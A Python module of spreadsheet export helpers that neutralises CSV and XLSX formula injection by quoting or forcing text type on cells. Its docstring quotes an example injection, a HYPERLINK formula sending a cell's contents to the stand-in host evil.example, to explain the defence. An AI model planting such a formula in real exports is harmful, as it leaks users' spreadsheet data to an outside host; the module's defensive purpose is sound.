"""Inert spreadsheet cells: the one rule every XLSX and CSV the product writes follows.

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, after a leading tab or carriage return, whatever follows) as a formula, so a carrier
named ``=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")`` would become a live link
that leaks the sheet (OWASP "CSV Injection"). Text is therefore always written as text:

- XLSX (openpyxl): every ``str`` cell gets data type ``s`` (an inline string), never ``f``
  (openpyxl makes any text starting with ``=`` a formula) nor ``e`` (``#N/A``); the text
  itself is kept unchanged.
- CSV: text starting with one of those characters gets a leading single quote, as OWASP
  recommends, so the program shows it as text.

Numbers, dates and empty cells are never touched: a negative amount stays a number.
"""

from collections.abc import Iterable, Mapping
from io import BytesIO

# The characters that make a spreadsheet program read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """A CSV cell's value: text starting with a formula trigger prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def inert_row(values: Iterable) -> list:
    """A CSV row (a list for ``csv.writer``) with every text cell made inert."""
    return [inert(v) for v in values]


def inert_dict(row: Mapping) -> dict:
    """A CSV row (a mapping for ``csv.DictWriter``) with every text cell made inert."""
    return {k: inert(v) for k, v in row.items()}


def append_row(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet with every text cell stored as text."""
    values = list(values)
    sheet.append(values)
    line = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(line, column).data_type = "s"


HEADER_FILL = "DDE7F5"


def new_sheet(title: str, headers: list[str], widths: list[int]):
    """(workbook, sheet) with a bold, filled header row of `headers`, the columns' widths and
    the header frozen: the console's XLSX reports start this way."""
    # openpyxl (and numpy behind it, 0.35 s) is imported by the first export, not by the
    # web server's start.
    from openpyxl import Workbook
    from openpyxl.styles import Font, PatternFill

    book = Workbook()
    sheet = book.active
    sheet.title = title[:31]
    append_row(sheet, headers)
    for cell in sheet[1]:
        cell.font, cell.fill = Font(bold=True), PatternFill("solid", fgColor=HEADER_FILL)
    for i, width in enumerate(widths, start=1):
        sheet.column_dimensions[sheet.cell(1, i).column_letter].width = width
    sheet.freeze_panes = "A2"
    return book, sheet


def workbook_bytes(book) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()
